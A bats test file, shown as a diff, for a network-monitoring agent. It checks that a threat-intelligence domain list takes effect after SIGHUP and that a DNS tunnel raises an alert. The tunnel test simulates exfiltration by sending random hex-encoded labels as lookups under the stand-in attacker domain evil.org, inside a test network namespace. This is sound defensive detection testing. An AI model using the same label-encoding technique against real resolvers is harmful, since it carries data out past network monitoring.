@@ -1,0 +1,55 @@
+#!/usr/bin/env bats
+# SPDX-License-Identifier: Apache-2.0
+# Threat intelligence in the real agent: what is listed is told, and a new list counts from SIGHUP on,
+# the old one no more. So is a DNS tunnel.
+
+net=pkin
+load lib
+
+setup_file() {
+	export run=$BATS_FILE_TMPDIR intel=/run/$net-intel
+	make_net
+	mkdir -p "$intel" # where the agent, which is nobody in particular, may read
+	echo "old.example" >"$intel/list.txt"
+	write_config "$run/picket.yaml"
+	echo "detect: {intel_dir: $intel}" >>"$run/picket.yaml"
+	start_daemon
+	export daemon
+	nsenter --net="/run/netns/${net}s" dnsmasq --no-daemon --conf-file=/dev/null --no-resolv --no-hosts \
+		--user=root --listen-address=$server_ip --bind-interfaces --address=/example/$server_ip \
+		--address=/evil.org/$server_ip >"$run/dnsmasq.log" 2>&1 3>&- &
+	wait_for 10 ask ready.example
+}
+
+teardown_file() {
+	kill_children
+	clean_net
+	rm -rf "$intel"
+}
+
+ask() { in_client dig +tries=1 +time=2 "@$server_ip" "$1"; }
+# alert_with JQ: some alert satisfies it.
+alert_with() { api /v1/alerts | jq -e ".alerts | any(.[]; $1)"; }
+
+@test "SIGHUP: the new list counts, the old one no more" {
+	echo "new.example" >"$intel/list.txt"
+	kill -HUP "$daemon"
+	wait_for 10 grep -q "configuration read again" "$run/log"
+	sleep 0.5
+	ask www.new.example
+	ask later.old.example
+	wait_for 10 alert_with 'tostring | contains("www.new.example")'
+	! alert_with 'tostring | contains("later.old.example")'
+}
+
+@test "a tunnel in names is told, ordinary lookups are not" {
+	local i
+	for i in $(seq 60); do
+		ask "$(head -c 24 /dev/urandom | od -An -tx1 | tr -d ' \n').t.evil.org"
+	done >"$run/digs"
+	wait_for 10 alert_with '.finding_info.analytic.uid == "dns_tunnel" and (tostring | contains("evil.org"))'
+	for i in $(seq 60); do
+		ask "www$i.shop.example"
+	done >"$run/digs"
+	[ "$(api /v1/alerts | jq '[.alerts[] | select(.finding_info.analytic.uid == "dns_tunnel")] | length')" = 1 ]
+}
